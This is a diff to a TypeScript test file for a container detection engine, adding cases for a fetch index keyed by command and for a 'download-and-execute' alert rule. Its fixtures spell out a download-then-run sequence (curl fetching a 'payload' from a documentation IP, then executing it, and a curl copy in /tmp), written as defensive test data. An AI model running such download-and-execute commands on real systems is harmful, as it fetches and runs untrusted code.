@@ -49,11 +49,24 @@ describe('container registry: the fetches a container made', () => {
     assert.equal(f.fetches[0].argv.at(-1), 'http://h7.example/');
   });
 
+  test('a command whose key another shares (an argument holding a NUL, forged) replaces it, and the index stays one to one', () => {
+    const r = new ContainerRegistry();
+    r.observe(curl(10, 'http://a.example/x', T0, ['a\0b']), 0);
+    r.observe(curl(11, 'http://a.example/x', T0 + SEC, ['a', 'b']), 0);
+    const f = r.get(CONTAINER_ID)!;
+    assert.deepEqual(f.fetches.map((e) => e.argv), [['curl', '-s', 'a', 'b', 'http://a.example/x']]);
+    assert.equal(f.fetchByCommand.size, 1);
+  });
+
   test('download-and-execute still sees a repeated download run, and not a repeated download as its own run', () => {
     const engine = new DetectionEngine(RuleSet.build(RULES));
     const fired = (evs: ReturnType<typeof execEvent>[]) => engine.evaluate('n', evs).filter((r) => r.alert.rule_id === 'download-and-execute').length;
     const get = (pid: number, at: bigint) => execEvent({ pid, filename: '/usr/bin/curl', argv: ['curl', '-sO', 'http://203.0.113.9/payload'], containerId: CONTAINER_ID, timeNs: at });
     assert.equal(fired([get(10, T0), get(11, T0 + SEC), get(12, T0 + 2n * SEC)]), 0, 'curl -O repeated is not the download run');
     assert.equal(fired([execEvent({ pid: 13, filename: '/work/payload', argv: ['./payload'], containerId: CONTAINER_ID, timeNs: T0 + 3n * SEC })]), 1, 'the file it wrote, run');
+    // A download tool in a writable directory: each run would be "a program from /tmp run after a download" but for its own fetch.
+    const tmpCurl = (pid: number, at: bigint) => execEvent({ pid, filename: '/tmp/curl', argv: ['/tmp/curl', '-sO', 'http://203.0.113.9/other'], containerId: CONTAINER_ID, timeNs: at });
+    const fresh = new DetectionEngine(RuleSet.build(RULES));
+    assert.equal(fresh.evaluate('n', [tmpCurl(20, T0), tmpCurl(21, T0 + SEC)]).filter((r) => r.alert.rule_id === 'download-and-execute').length, 0, 'the repeat is not a run of what it fetched itself');
   });
 });
